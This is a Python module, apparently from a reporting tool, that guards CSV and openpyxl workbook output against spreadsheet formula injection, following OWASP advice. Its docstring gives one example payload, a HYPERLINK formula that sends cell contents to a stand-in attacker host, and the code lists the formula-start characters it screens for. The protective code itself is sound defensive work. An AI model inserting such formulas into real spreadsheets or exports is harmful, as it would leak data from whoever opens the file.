"""Text from data made safe to open in a spreadsheet program (formula or CSV injection).

Excel, LibreOffice and others run a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and some also after a leading tab or carriage return. An
account, region or KA manager named ``=HYPERLINK("http://evil.example/?"&A1)``
would then run when a colleague opens a workbook or CSV kamreport wrote.
OWASP's advice ("CSV Injection") is followed:

- CSV fields: such text gets a leading apostrophe (``'=HYPERLINK(…)``), which the
  spreadsheet shows as text; nothing else changes;
- workbook cells (openpyxl): the text is stored unchanged as a string cell
  (openpyxl would otherwise store any text starting with ``=`` as a formula), marked
  with Excel's quote prefix, so the cell shows exactly the text from the data.

Numbers are never touched, and neither is text that is a plain number (``-5``,
``+1.5e3``): a spreadsheet reads it as that number, which runs nothing.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pandas as pd

if TYPE_CHECKING:  # openpyxl is only needed where workbooks are written
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_PREFIX = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet program could run ``text`` as a formula."""
    return text.startswith(FORMULA_STARTS) and _PLAIN_NUMBER.fullmatch(text) is None


def csv_field(value: object) -> object:
    """``value`` for a CSV field: text that could run as a formula gets a leading
    apostrophe; anything else (numbers, dates, empty values, other text) is unchanged."""
    if isinstance(value, str) and starts_like_formula(value):
        return CSV_PREFIX + value
    return value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text values are :func:`csv_field`-safe (numeric and
    date columns are left exactly as they are)."""
    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if pd.api.types.is_numeric_dtype(values.dtype) or not (
            pd.api.types.is_object_dtype(values.dtype) or pd.api.types.is_string_dtype(values.dtype)
        ):
            continue
        if values.map(lambda v: isinstance(v, str) and starts_like_formula(v)).any():
            out[column] = values.map(csv_field).astype(values.dtype)
    return out


def as_text(cell: Cell) -> Cell:
    """Keep a cell holding text from data a string cell, never a formula (a no-op for
    numbers and empty cells). Text that starts like a formula also gets the quote prefix,
    as Excel itself marks text typed with a leading apostrophe."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if starts_like_formula(cell.value):
            cell.quotePrefix = True
    return cell


def text_cell(sheet: Worksheet, row: int, column: int, value: object) -> Cell:
    """Write ``value`` (from data) into a cell as text (see :func:`as_text`)."""
    return as_text(sheet.cell(row=row, column=column, value=value))


__all__ = [
    "CSV_PREFIX",
    "FORMULA_STARTS",
    "as_text",
    "csv_field",
    "csv_safe_frame",
    "starts_like_formula",
    "text_cell",
]
